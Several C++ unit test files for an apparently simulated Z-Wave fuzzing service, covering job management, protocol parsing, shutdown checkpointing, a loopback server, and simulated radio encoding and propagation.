  EXPECT_EQ(manager.peak_active_jobs(), 1u);
}

TEST(JobManagerTest, ApiRejectsInvalidTransitionsAndSpecs) {
  JobManager::Config config;
  config.executor_workers = 2;
  JobManager manager(config);

  std::string error;
  JobSpec bad = quick_spec(1, 1);
  bad.fuzzer = "radamsa";
  EXPECT_TRUE(manager.submit(bad, &error).empty());
  EXPECT_NE(error.find("unknown fuzzer"), std::string::npos);

  bad = quick_spec(1, 0);
  EXPECT_TRUE(manager.submit(bad, &error).empty());

  EXPECT_FALSE(manager.pause("job-404", &error));
  EXPECT_NE(error.find("unknown job"), std::string::npos);
  EXPECT_FALSE(manager.status("job-404").has_value());

  const std::string id = manager.submit(quick_spec(0x90D, 1), &error);
  ASSERT_FALSE(id.empty());
  ASSERT_TRUE(manager.wait(id, kWait));
  EXPECT_FALSE(manager.pause(id, &error));  // done, not running
  EXPECT_FALSE(manager.resume(id, ResumeMode::kReplay, &error));
}

TEST(JobManagerTest, StatsExposeJobTableAndExecutorGauges) {
  obs::MetricsRegistry metrics;
  JobManager::Config config;
  config.executor_workers = 2;
  config.metrics = &metrics;
  JobManager manager(config);

  std::string error;
  const std::string id = manager.submit(quick_spec(0x57A7, 2), &error);
  ASSERT_FALSE(id.empty()) << error;
  ASSERT_TRUE(manager.wait(id, kWait));

  const std::string stats = manager.stats_json();
  EXPECT_NE(stats.find("\"ok\":true"), std::string::npos);
  EXPECT_NE(stats.find("\"done\":1"), std::string::npos);
  EXPECT_NE(stats.find("\"workers\":"), std::string::npos);
  EXPECT_NE(stats.find("\"tasks_run\":"), std::string::npos);

  // stats_json refreshes the executor.* gauges from the live pool; the
  // shared pool has retired at least this job's two shard tasks.
  EXPECT_GE(metrics.value(obs::MetricId::kExecutorWorkers), 2u);
  EXPECT_GE(metrics.value(obs::MetricId::kExecutorTasksRun), 2u);
  EXPECT_GE(metrics.value(obs::MetricId::kExecutorJobsCompleted), 1u);

  // The daemon registry serializes with the svc.*/executor.* families in
  // enum order, like every other registry (docs/observability.md).
  const std::string json = metrics.to_json();
  EXPECT_NE(json.find("\"svc.jobs_submitted\": 1"), std::string::npos);
  EXPECT_NE(json.find("\"executor.workers\":"), std::string::npos);
}

}  // namespace
}  // namespace zc::svc
