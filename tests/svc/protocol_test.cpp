// The line protocol's validation contract (svc/protocol.h): the wire is
// argv, so every request either parses into exactly the job the client
// meant or is refused with a reason. Encoders and parser are exercised as
// a pair — what `zc submit` sends is what the daemon accepts, field for
// field.
#include <gtest/gtest.h>

#include <string>

#include "svc/protocol.h"

namespace zc::svc {
namespace {

std::optional<Request> parse(const std::string& line, std::string* error = nullptr) {
  std::string scratch;
  return parse_request(line, error != nullptr ? error : &scratch);
}

TEST(ProtocolParseTest, SubmitEncoderRoundTrips) {
  JobSpec spec;
  spec.device = sim::DeviceModel::kD2_SilabsUzb7;
  spec.fuzzer = "cov";
  spec.seed = 0xDEADBEEF;
  spec.trials = 7;
  spec.duration_ms = 120000;
  spec.telemetry = true;
  spec.name = "nightly \"smoke\"";

  const auto request = parse(encode_submit(spec));
  ASSERT_TRUE(request.has_value());
  EXPECT_EQ(request->op, Op::kSubmit);
  EXPECT_EQ(request->spec.device, spec.device);
  EXPECT_EQ(request->spec.fuzzer, spec.fuzzer);
  EXPECT_EQ(request->spec.seed, spec.seed);
  EXPECT_EQ(request->spec.trials, spec.trials);
  EXPECT_EQ(request->spec.duration_ms, spec.duration_ms);
  EXPECT_EQ(request->spec.telemetry, spec.telemetry);
  EXPECT_EQ(request->spec.name, spec.name);
}

TEST(ProtocolParseTest, SubmitDefaultsMatchJobSpecDefaults) {
  const auto request = parse(R"({"op":"submit"})");
  ASSERT_TRUE(request.has_value());
  const JobSpec defaults;
  EXPECT_EQ(request->spec.device, defaults.device);
  EXPECT_EQ(request->spec.fuzzer, defaults.fuzzer);
  EXPECT_EQ(request->spec.seed, defaults.seed);
  EXPECT_EQ(request->spec.trials, defaults.trials);
}

TEST(ProtocolParseTest, DeviceAcceptsShortIdAndFullLabel) {
  const auto by_id = parse(R"({"op":"submit","device":"D4"})");
  ASSERT_TRUE(by_id.has_value());
  EXPECT_EQ(by_id->spec.device, sim::DeviceModel::kD4_AeotecZw090);

  const std::string label = sim::device_model_name(sim::DeviceModel::kD4_AeotecZw090);
  const auto by_label = parse(R"({"op":"submit","device":")" + label + "\"}");
  ASSERT_TRUE(by_label.has_value());
  EXPECT_EQ(by_label->spec.device, sim::DeviceModel::kD4_AeotecZw090);
}

TEST(ProtocolParseTest, JobOpsAndResumeRoundTrip) {
  auto request = parse(encode_job_op(Op::kPause, "job-12"));
  ASSERT_TRUE(request.has_value());
  EXPECT_EQ(request->op, Op::kPause);
  EXPECT_EQ(request->job_id, "job-12");

  request = parse(encode_resume("job-3", ResumeMode::kCheckpoint));
  ASSERT_TRUE(request.has_value());
  EXPECT_EQ(request->op, Op::kResume);
  EXPECT_EQ(request->resume, ResumeMode::kCheckpoint);

  request = parse(encode_resume("job-3", ResumeMode::kReplay));
  ASSERT_TRUE(request.has_value());
  EXPECT_EQ(request->resume, ResumeMode::kReplay);

  // status with no job = list everything; watch without a job is an error.
  EXPECT_TRUE(parse(encode_simple(Op::kStatus)).has_value());
  EXPECT_TRUE(parse(encode_simple(Op::kPing)).has_value());
  EXPECT_TRUE(parse(encode_simple(Op::kShutdown)).has_value());
  EXPECT_FALSE(parse(R"({"op":"watch"})").has_value());
  EXPECT_FALSE(parse(R"({"op":"cancel","job":""})").has_value());
}

TEST(ProtocolParseTest, RejectsUnknownOpsAndKeys) {
  std::string error;
  EXPECT_FALSE(parse("not json at all", &error).has_value());
  EXPECT_NE(error.find("invalid JSON"), std::string::npos);
  EXPECT_FALSE(parse("[1,2]", &error).has_value());
  EXPECT_FALSE(parse(R"({"op":"trails"})", &error).has_value());
  EXPECT_NE(error.find("unknown op"), std::string::npos);
  EXPECT_FALSE(parse(R"({"op":"submit","trails":2})", &error).has_value());
  EXPECT_NE(error.find("unknown field \"trails\""), std::string::npos);
  // Keys from another op's whitelist don't leak across.
  EXPECT_FALSE(parse(R"({"op":"ping","job":"job-1"})", &error).has_value());
  EXPECT_FALSE(parse(R"({"op":"pause","job":"job-1","mode":"replay"})", &error).has_value());
}

TEST(ProtocolParseTest, RejectsOutOfDomainValues) {
  std::string error;
  EXPECT_FALSE(parse(R"({"op":"submit","device":"D9"})", &error).has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","fuzzer":"radamsa"})", &error).has_value());
  EXPECT_NE(error.find("unknown fuzzer"), std::string::npos);
  EXPECT_FALSE(parse(R"({"op":"submit","trials":0})", &error).has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","trials":4097})", &error).has_value());
  EXPECT_NE(error.find("[1, 4096]"), std::string::npos);
  EXPECT_FALSE(parse(R"({"op":"resume","job":"j","mode":"rewind"})", &error).has_value());
  EXPECT_NE(error.find("unknown resume mode"), std::string::npos);
}

TEST(ProtocolParseTest, NumericFieldsUseStrictExtraction) {
  // The parse_count contract on the wire: no sloppy numeric coercion.
  EXPECT_FALSE(parse(R"({"op":"submit","seed":-1})").has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","seed":1.5})").has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","seed":1e3})").has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","seed":"7"})").has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","trials":07})").has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","seed":18446744073709551616})").has_value());
  EXPECT_FALSE(parse(R"({"op":"submit","telemetry":1})").has_value());

  const auto max_seed = parse(R"({"op":"submit","seed":18446744073709551615})");
  ASSERT_TRUE(max_seed.has_value());
  EXPECT_EQ(max_seed->spec.seed, 18446744073709551615ull);
}

TEST(ProtocolResponseTest, ResponseBuildersAreFixedForm) {
  EXPECT_EQ(ok_response(""), "{\"ok\":true}");
  EXPECT_EQ(ok_response("\"job\":\"job-1\""), "{\"ok\":true,\"job\":\"job-1\"}");
  EXPECT_EQ(error_response("bad \"thing\""), "{\"ok\":false,\"error\":\"bad \\\"thing\\\"\"}");
}

}  // namespace
}  // namespace zc::svc
