// Cooperative shutdown of the campaign service (docs/SERVICE.md
// "Shutdown"): SIGTERM with N jobs running means every running job is
// stopped at its next packet boundary and checkpointed, staged findings
// are committed and the journal flushed (and stays torn-tail recoverable
// like any journal), and resubmitting the recovered jobs into a fresh
// daemon reproduces byte-identical merged reports — at any worker count.
#include <gtest/gtest.h>

#include <atomic>
#include <csignal>
#include <cstdio>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "store/journal.h"
#include "svc/jobs.h"

namespace zc::svc {
namespace {

constexpr auto kWait = std::chrono::milliseconds(60000);

volatile std::sig_atomic_t g_sigterm_seen = 0;
void record_sigterm(int) { g_sigterm_seen = 1; }

std::string temp_path(const char* name) { return ::testing::TempDir() + name; }

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

void write_file(const std::string& path, const std::string& bytes) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

JobSpec long_spec(std::uint64_t seed) {
  JobSpec spec;
  spec.device = sim::DeviceModel::kD4_AeotecZw090;
  spec.fuzzer = "psm";
  spec.seed = seed;
  spec.trials = 3;
  spec.duration_ms = 300000;
  return spec;
}

template <typename Predicate>
bool poll_status(JobManager& manager, const std::string& id, Predicate predicate) {
  const auto deadline = std::chrono::steady_clock::now() + kWait;
  while (std::chrono::steady_clock::now() < deadline) {
    const auto status = manager.status(id);
    if (status.has_value() && predicate(*status)) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  return false;
}

void expect_summaries_equal(const core::ParallelTrialReport& a,
                            const core::ParallelTrialReport& b) {
  EXPECT_EQ(a.summary.trials, b.summary.trials);
  EXPECT_EQ(a.summary.union_bug_ids, b.summary.union_bug_ids);
  EXPECT_EQ(a.summary.per_trial_unique, b.summary.per_trial_unique);
  EXPECT_EQ(a.summary.first_finding_at, b.summary.first_finding_at);
  EXPECT_EQ(a.summary.total_packets, b.summary.total_packets);
  EXPECT_EQ(a.merged_metrics().to_json(), b.merged_metrics().to_json());
  EXPECT_EQ(a.merged_trace_jsonl(), b.merged_trace_jsonl());
}

TEST(SvcShutdownTest, SigtermDrainsCheckpointsAndRecoversReproducibly) {
  // The CLI contract first: SIGTERM reaches a cooperative handler (the
  // serve loop polls it and then runs exactly the drain below).
  g_sigterm_seen = 0;
  auto previous = std::signal(SIGTERM, record_sigterm);
  ASSERT_NE(previous, SIG_ERR);
  std::raise(SIGTERM);
  EXPECT_EQ(g_sigterm_seen, 1);
  std::signal(SIGTERM, previous);

  const std::string journal_path = temp_path("svc_shutdown.zcj");
  const std::string checkpoint_dir = ::testing::TempDir();
  std::remove(journal_path.c_str());

  const JobSpec spec_a = long_spec(0x5D01);
  const JobSpec spec_b = long_spec(0x5D02);

  // --- phase 1: a daemon with two running jobs gets the drain call ----
  std::vector<RecoveredJob> recovered;
  {
    store::FindingsJournal journal;
    ASSERT_TRUE(journal.open(journal_path));
    std::atomic<bool> gate_open{false};
    JobManager::Config config;
    config.max_parallel_jobs = 2;
    config.executor_workers = 2;
    config.journal = &journal;
    config.checkpoint_dir = checkpoint_dir;
    // Let each job's shard 0 run to its end (real partial progress:
    // staged findings to commit) but park the later shards on the
    // workers, so both jobs are still genuinely mid-run when the drain
    // lands — campaigns are fast enough under virtual time that an
    // ungated test would race them to completion.
    config.shard_gate = [&gate_open](std::size_t shard_id, std::size_t,
                                     const core::CancellationToken&) {
      if (shard_id >= 1) {
        while (!gate_open.load()) {
          std::this_thread::sleep_for(std::chrono::milliseconds(1));
        }
      }
    };
    JobManager manager(config);
    struct GateRelease {  // opens the gate before the manager's dtor waits
      std::atomic<bool>& flag;
      ~GateRelease() { flag.store(true); }
    } release{gate_open};

    std::string error;
    const std::string job_a = manager.submit(spec_a, &error);
    const std::string job_b = manager.submit(spec_b, &error);
    ASSERT_FALSE(job_a.empty());
    ASSERT_FALSE(job_b.empty());
    ASSERT_TRUE(manager.wait_state(job_a, JobState::kRunning, kWait));
    ASSERT_TRUE(manager.wait_state(job_b, JobState::kRunning, kWait));
    ASSERT_TRUE(poll_status(manager, job_a,
                            [](const JobStatus& s) { return s.shards_done >= 1; }));
    ASSERT_TRUE(poll_status(manager, job_b,
                            [](const JobStatus& s) { return s.shards_done >= 1; }));

    // Drain from a second thread; open the gate only once the drain has
    // begun (shutting_down() flips after every abort flag is tripped), so
    // the parked shards wake into the abort, checkpoint, and settle.
    std::thread drain([&manager, &recovered] {
      recovered = manager.shutdown_and_checkpoint();
    });
    while (!manager.shutting_down()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
    gate_open.store(true);
    drain.join();
    ASSERT_EQ(recovered.size(), 2u);
    EXPECT_EQ(recovered[0].id, job_a);
    EXPECT_EQ(recovered[1].id, job_b);

    // Post-shutdown the manager refuses new work.
    EXPECT_TRUE(manager.submit(spec_a, &error).empty());
    EXPECT_NE(error.find("shutting down"), std::string::npos);
    journal.close();
  }

  // Every checkpoint returned was also written to disk for out-of-process
  // recovery (the serve loop parks them in --checkpoint-dir).
  for (const RecoveredJob& job : recovered) {
    for (const auto& [shard_id, checkpoint] : job.checkpoints) {
      const std::string path =
          checkpoint_dir + "/" + job.id + ".shard" + std::to_string(shard_id);
      const auto loaded = core::read_checkpoint_file(path);
      ASSERT_TRUE(loaded.has_value()) << path;
      EXPECT_EQ(loaded->test_packets, checkpoint.test_packets);
      EXPECT_EQ(loaded->elapsed, checkpoint.elapsed);
      std::remove(path.c_str());
    }
  }

  // --- phase 2: the flushed journal survives a torn tail --------------
  const std::string journal_bytes = read_file(journal_path);
  ASSERT_FALSE(journal_bytes.empty());
  std::size_t baseline_records = 0;
  {
    store::FindingsJournal reopened;
    ASSERT_TRUE(reopened.open(journal_path));
    baseline_records = reopened.records().size();
    EXPECT_GE(baseline_records, 1u);  // partial progress was committed
    reopened.close();
  }
  const std::string torn_path = temp_path("svc_shutdown_torn.zcj");
  write_file(torn_path, journal_bytes + std::string("\x42\x42\x42", 3));
  {
    store::FindingsJournal torn;
    ASSERT_TRUE(torn.open(torn_path));
    EXPECT_EQ(torn.records().size(), baseline_records);
    EXPECT_GT(torn.recovery().bytes_truncated, 0u);
    torn.close();
  }
  std::remove(torn_path.c_str());

  // --- phase 3: resubmission reproduces byte-identical results --------
  // Two fresh daemons, different per-job worker counts, each resuming the
  // recovered jobs from their checkpoints on a copy of the shared journal.
  auto rerun = [&](const char* journal_name, std::size_t workers_per_job) {
    const std::string path = temp_path(journal_name);
    write_file(path, journal_bytes);  // the daemon restarts on its old file
    store::FindingsJournal journal;
    EXPECT_TRUE(journal.open(path));
    JobManager::Config config;
    config.max_parallel_jobs = 1;  // sequential: journal order is job order
    config.executor_workers = 2;
    config.workers_per_job = workers_per_job;
    config.journal = &journal;
    JobManager manager(config);

    std::vector<core::ParallelTrialReport> reports;
    std::string error;
    for (const RecoveredJob& job : recovered) {
      const std::string id = manager.submit_recovered(job, &error);
      EXPECT_FALSE(id.empty()) << error;
      EXPECT_TRUE(manager.wait(id, kWait));
      const auto status = manager.status(id);
      EXPECT_TRUE(status.has_value());
      EXPECT_EQ(status->state, JobState::kDone);
      const auto report = manager.report(id);
      EXPECT_TRUE(report.has_value());
      reports.push_back(*report);
    }
    manager.shutdown_and_checkpoint();
    journal.close();
    return std::make_pair(std::move(reports), path);
  };

  auto [reports_one, path_one] = rerun("svc_shutdown_r1.zcj", 1);
  auto [reports_two, path_two] = rerun("svc_shutdown_r2.zcj", 2);
  ASSERT_EQ(reports_one.size(), 2u);
  ASSERT_EQ(reports_two.size(), 2u);
  expect_summaries_equal(reports_one[0], reports_two[0]);
  expect_summaries_equal(reports_one[1], reports_two[1]);
  // Same recovered state + same journal prefix => the two daemons' journal
  // files are byte-identical, worker count notwithstanding.
  EXPECT_EQ(read_file(path_one), read_file(path_two));

  // --- phase 4: findings form a superset with no duplicates -----------
  store::FindingsJournal merged;
  ASSERT_TRUE(merged.open(path_one));
  EXPECT_GE(merged.records().size(), baseline_records);
  std::set<store::FindingRecord::Key> keys;
  std::set<store::FindingRecord::Key> shutdown_keys;
  for (const auto& record : merged.records()) {
    EXPECT_TRUE(keys.insert(record.key()).second) << "duplicate dedup key in journal";
  }
  {
    store::FindingsJournal before;
    ASSERT_TRUE(before.open(journal_path));
    for (const auto& record : before.records()) shutdown_keys.insert(record.key());
    before.close();
  }
  for (const auto& key : shutdown_keys) {
    EXPECT_TRUE(keys.count(key) > 0) << "shutdown-committed finding lost on recovery";
  }
  merged.close();

  std::remove(journal_path.c_str());
  std::remove(path_one.c_str());
  std::remove(path_two.c_str());
}

}  // namespace
}  // namespace zc::svc
