// Loopback end-to-end smoke of the daemon's wire front-end (svc/server.h):
// bind 127.0.0.1 with a kernel-assigned port (no privileges, no fixed-port
// races), drive the full submit → watch → done path through real sockets
// with the same Client the CLI uses, verify the journal the daemon wrote
// matches the one-shot path byte for byte, and check that hostile input is
// refused with a reason instead of crashing or defaulting.
#include <gtest/gtest.h>

#include <atomic>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "common/clock.h"
#include "core/parallel.h"
#include "store/journal.h"
#include "svc/client.h"
#include "svc/jobs.h"
#include "svc/protocol.h"
#include "svc/server.h"

namespace zc::svc {
namespace {

constexpr auto kWait = std::chrono::milliseconds(60000);

std::string temp_path(const char* name) { return ::testing::TempDir() + name; }

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

TEST(SvcServerTest, LoopbackEndToEnd) {
  const std::string journal_path = temp_path("svc_server_e2e.zcj");
  const std::string baseline_path = temp_path("svc_server_e2e_base.zcj");
  std::remove(journal_path.c_str());
  std::remove(baseline_path.c_str());

  JobSpec spec;
  spec.device = sim::DeviceModel::kD4_AeotecZw090;
  spec.fuzzer = "psm";
  spec.seed = 0xE2E;
  spec.trials = 2;
  spec.duration_ms = 300000;
  spec.name = "e2e";

  // One-shot baseline for the journal byte comparison.
  {
    sim::TestbedConfig testbed;
    testbed.controller_model = spec.device;
    testbed.seed = spec.seed;
    core::CampaignConfig campaign;
    campaign.seed = spec.seed;
    campaign.loop_queue = false;
    campaign.duration = static_cast<SimTime>(spec.duration_ms) * kMillisecond;
    store::FindingsJournal baseline_journal;
    ASSERT_TRUE(baseline_journal.open(baseline_path));
    core::ParallelConfig parallel;
    parallel.jobs = 2;
    parallel.journal = &baseline_journal;
    core::run_trials_parallel(testbed, campaign, spec.trials, parallel);
    baseline_journal.close();
  }

  obs::MetricsRegistry metrics;
  std::atomic<bool> shutdown_requested{false};
  {
    store::FindingsJournal journal;
    ASSERT_TRUE(journal.open(journal_path));
    JobManager::Config manager_config;
    manager_config.executor_workers = 2;
    manager_config.journal = &journal;
    manager_config.metrics = &metrics;
    JobManager manager(manager_config);

    Server::Config server_config;
    server_config.host = "127.0.0.1";
    server_config.port = 0;
    server_config.jobs = &manager;
    server_config.metrics = &metrics;
    server_config.on_shutdown_request = [&shutdown_requested] {
      shutdown_requested.store(true);
    };
    Server server(server_config);
    std::string error;
    ASSERT_TRUE(server.start(&error)) << error;
    ASSERT_GT(server.port(), 0);

    Client control;
    ASSERT_TRUE(control.connect("127.0.0.1", server.port(), &error)) << error;

    std::string response;
    ASSERT_TRUE(control.request(encode_simple(Op::kPing), &response));
    EXPECT_EQ(response, "{\"ok\":true,\"pong\":true}");

    // Hostile input: refused with a reason, connection stays usable.
    ASSERT_TRUE(control.request("this is not json", &response));
    EXPECT_EQ(response.rfind("{\"ok\":false", 0), 0u);
    EXPECT_NE(response.find("invalid JSON"), std::string::npos);
    ASSERT_TRUE(control.request(R"({"op":"trails"})", &response));
    EXPECT_NE(response.find("unknown op"), std::string::npos);
    ASSERT_TRUE(control.request(R"({"op":"submit","trials":0})", &response));
    EXPECT_NE(response.find("[1, 4096]"), std::string::npos);
    ASSERT_TRUE(control.request(encode_job_op(Op::kPause, "job-404"), &response));
    EXPECT_NE(response.find("unknown job"), std::string::npos);

    // Submit over the wire, then watch from a second connection — the
    // stream replays history and follows the job to its terminal event.
    ASSERT_TRUE(control.request(encode_submit(spec), &response));
    ASSERT_EQ(response, "{\"ok\":true,\"job\":\"job-1\"}");

    Client watcher;
    ASSERT_TRUE(watcher.connect("127.0.0.1", server.port(), &error)) << error;
    ASSERT_TRUE(watcher.send_line(encode_job_op(Op::kWatch, "job-1")));
    std::string line;
    ASSERT_TRUE(watcher.recv_line(&line));
    EXPECT_EQ(line, "{\"ok\":true,\"watching\":\"job-1\"}");
    std::vector<std::string> events;
    while (watcher.recv_line(&line)) {
      events.push_back(line);
      if (line.find("\"event\":\"done\"") != std::string::npos) break;
    }
    ASSERT_GE(events.size(), 3u);
    EXPECT_NE(events.front().find("\"state\":\"queued\""), std::string::npos);
    EXPECT_NE(events.back().find("\"state\":\"done\""), std::string::npos);
    EXPECT_NE(events.back().find("\"name\":\"e2e\""), std::string::npos);

    // Status and stats reflect the finished job.
    ASSERT_TRUE(control.request(encode_job_op(Op::kStatus, "job-1"), &response));
    EXPECT_NE(response.find("\"state\":\"done\""), std::string::npos);
    EXPECT_NE(response.find("\"shards_done\":2"), std::string::npos);
    ASSERT_TRUE(control.request(encode_simple(Op::kStatus), &response));
    EXPECT_NE(response.find("\"jobs\":[{"), std::string::npos);
    ASSERT_TRUE(control.request(encode_simple(Op::kStats), &response));
    EXPECT_NE(response.find("\"done\":1"), std::string::npos);
    EXPECT_NE(response.find("\"executor\":{\"workers\":"), std::string::npos);

    // Shutdown op reaches the serve loop's hook; the daemon acks first.
    ASSERT_TRUE(control.request(encode_simple(Op::kShutdown), &response));
    EXPECT_EQ(response, "{\"ok\":true,\"shutting_down\":true}");
    EXPECT_TRUE(shutdown_requested.load());

    manager.shutdown_and_checkpoint();
    server.stop();
    journal.close();
  }

  EXPECT_EQ(read_file(journal_path), read_file(baseline_path));
  EXPECT_GE(metrics.value(obs::MetricId::kSvcConnections), 2u);
  EXPECT_GE(metrics.value(obs::MetricId::kSvcRequests), 8u);
  EXPECT_GE(metrics.value(obs::MetricId::kSvcProtocolErrors), 3u);
  EXPECT_GE(metrics.value(obs::MetricId::kSvcEventsStreamed), 3u);
  std::remove(journal_path.c_str());
  std::remove(baseline_path.c_str());
}

TEST(SvcServerTest, StartFailsCleanlyOnBadAddress) {
  JobManager::Config manager_config;
  manager_config.executor_workers = 2;
  JobManager manager(manager_config);
  Server::Config config;
  config.host = "not-an-address";
  config.jobs = &manager;
  Server server(config);
  std::string error;
  EXPECT_FALSE(server.start(&error));
  EXPECT_NE(error.find("invalid listen address"), std::string::npos);
  server.stop();  // idempotent even when start failed
}

}  // namespace
}  // namespace zc::svc
