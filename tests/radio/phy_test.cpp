#include "radio/phy.h"

#include <gtest/gtest.h>

#include "common/rng.h"

namespace zc::radio {
namespace {

TEST(PhyTest, ManchesterEncodeByteShape) {
  BitStream bits;
  manchester_encode_byte(0xF0, bits);
  ASSERT_EQ(bits.size(), 16u);
  // 1 -> 10, 0 -> 01; 0xF0 = 11110000.
  const BitStream expected = {1, 0, 1, 0, 1, 0, 1, 0, 0, 1, 0, 1, 0, 1, 0, 1};
  EXPECT_EQ(bits, expected);
}

TEST(PhyTest, ManchesterRoundTripAllBytes) {
  for (int value = 0; value < 256; ++value) {
    BitStream bits;
    manchester_encode_byte(static_cast<std::uint8_t>(value), bits);
    const auto decoded = manchester_decode(bits, 0, 1);
    ASSERT_TRUE(decoded.ok());
    EXPECT_EQ(decoded.value()[0], value);
  }
}

TEST(PhyTest, ManchesterDetectsInvalidSymbol) {
  BitStream bits(16, 0);  // 00 pairs are not Manchester symbols
  const auto decoded = manchester_decode(bits, 0, 1);
  ASSERT_FALSE(decoded.ok());
  EXPECT_EQ(decoded.error().code, zc::Errc::kBadField);
}

TEST(PhyTest, ManchesterDetectsTruncation) {
  BitStream bits = {1, 0, 0, 1};
  EXPECT_FALSE(manchester_decode(bits, 0, 1).ok());
}

TEST(PhyTest, TransmissionRoundTrip) {
  const zc::Bytes frame = {0xCB, 0x95, 0xA3, 0x4A, 0x0F, 0x41, 0x01, 0x0D, 0x01, 0x20, 0x55};
  const BitStream bits = encode_transmission(frame);
  const auto decoded = decode_transmission(bits);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value(), frame);
}

TEST(PhyTest, TransmissionRoundTripRandomFrames) {
  zc::Rng rng(0x9A12);
  for (int i = 0; i < 100; ++i) {
    const zc::Bytes frame = rng.bytes(static_cast<std::size_t>(rng.uniform(1, 64)));
    const auto decoded = decode_transmission(encode_transmission(frame));
    ASSERT_TRUE(decoded.ok());
    EXPECT_EQ(decoded.value(), frame);
  }
}

TEST(PhyTest, PreambleIsRepetitive0x55) {
  const zc::Bytes frame = {0xAA};
  const BitStream bits = encode_transmission(frame);
  const auto first_byte = manchester_decode(bits, 0, 1);
  ASSERT_TRUE(first_byte.ok());
  EXPECT_EQ(first_byte.value()[0], kPreambleByte);
}

TEST(PhyTest, DecodeRejectsPureNoise) {
  // All-zero bits: no valid Manchester symbols, no SOF.
  BitStream zeros(400, 0);
  EXPECT_FALSE(decode_transmission(zeros).ok());
}

TEST(PhyTest, DecodeRejectsTooShortStream) {
  EXPECT_FALSE(decode_transmission(BitStream(8, 1)).ok());
}

TEST(PhyTest, CorruptedSymbolTruncatesFrame) {
  const zc::Bytes frame = {0x01, 0x02, 0x03, 0x04};
  BitStream bits = encode_transmission(frame);
  // Corrupt the symbol of the third frame byte (after preamble+SOF).
  const std::size_t offset = (kPreambleLength + 1 + 2) * 16;
  bits[offset] = bits[offset + 1];  // make an invalid 00/11 pair
  const auto decoded = decode_transmission(bits);
  ASSERT_TRUE(decoded.ok());
  EXPECT_LT(decoded.value().size(), frame.size());
}

}  // namespace
}  // namespace zc::radio
