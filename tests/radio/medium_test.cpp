#include "radio/medium.h"

#include <gtest/gtest.h>

namespace zc::radio {
namespace {

RadioConfig at(const char* label, double x, double y = 0.0) {
  return RadioConfig{label, zc::zwave::RfRegion::kUs908, x, y, 0.0};
}

TEST(MediumTest, DeliversBetweenNearbyNodes) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  Transceiver b(medium, at("b", 5));

  int received = 0;
  b.set_bits_handler([&](const BitStream&, double) { ++received; });
  a.transmit(zc::Bytes{0x01, 0x02, 0x03});
  scheduler.run_for(zc::kSecond);
  EXPECT_EQ(received, 1);
  EXPECT_EQ(a.frames_sent(), 1u);
  EXPECT_EQ(b.frames_heard(), 1u);
}

TEST(MediumTest, SenderDoesNotHearItself) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  int received = 0;
  a.set_bits_handler([&](const BitStream&, double) { ++received; });
  a.transmit(zc::Bytes{0x01});
  scheduler.run_all();
  EXPECT_EQ(received, 0);
}

TEST(MediumTest, OutOfRangeNodeHearsNothing) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  Transceiver far(medium, at("far", 100000.0));  // 100 km
  int received = 0;
  far.set_bits_handler([&](const BitStream&, double) { ++received; });
  a.transmit(zc::Bytes{0x01});
  scheduler.run_all();
  EXPECT_EQ(received, 0);
}

TEST(MediumTest, DifferentRegionsAreIsolated) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver us(medium, at("us", 0));
  RadioConfig eu_config = at("eu", 1);
  eu_config.region = zc::zwave::RfRegion::kEu868;
  Transceiver eu(medium, eu_config);
  int received = 0;
  eu.set_bits_handler([&](const BitStream&, double) { ++received; });
  us.transmit(zc::Bytes{0x01});
  scheduler.run_all();
  EXPECT_EQ(received, 0);
}

TEST(MediumTest, RssiFollowsLogDistance) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  Transceiver near(medium, at("near", 5));
  Transceiver far(medium, at("far", 70));
  EXPECT_GT(medium.link_rssi_dbm(a, near), medium.link_rssi_dbm(a, far));
  // At 70 m with defaults the link is still above sensitivity (the paper's
  // attacker operates from up to 70 m away).
  EXPECT_GT(medium.link_rssi_dbm(a, far), medium.model().sensitivity_dbm);
}

TEST(MediumTest, AirtimeDelaysDelivery) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  Transceiver b(medium, at("b", 5));
  zc::SimTime delivered_at = 0;
  b.set_bits_handler([&](const BitStream&, double) { delivered_at = scheduler.now(); });
  a.transmit(zc::Bytes(64, 0xAA));
  scheduler.run_all();
  // 64-byte frame + preamble at 40 kbps of Manchester bits: > 10 ms.
  EXPECT_GT(delivered_at, 10 * zc::kMillisecond);
}

TEST(MediumTest, BitFlipNoiseCorruptsSomeDeliveries) {
  zc::EventScheduler scheduler;
  ChannelModel noisy;
  noisy.bit_flip_rate = 0.01;
  RfMedium medium(scheduler, zc::Rng(7), noisy);
  Transceiver a(medium, at("a", 0));
  Transceiver b(medium, at("b", 5));

  const zc::Bytes frame(32, 0x5A);
  const BitStream clean = encode_transmission(frame);
  int corrupted = 0, total = 0;
  b.set_bits_handler([&](const BitStream& bits, double) {
    ++total;
    if (bits != clean) ++corrupted;
  });
  for (int i = 0; i < 50; ++i) a.transmit(frame);
  scheduler.run_all();
  EXPECT_EQ(total, 50);
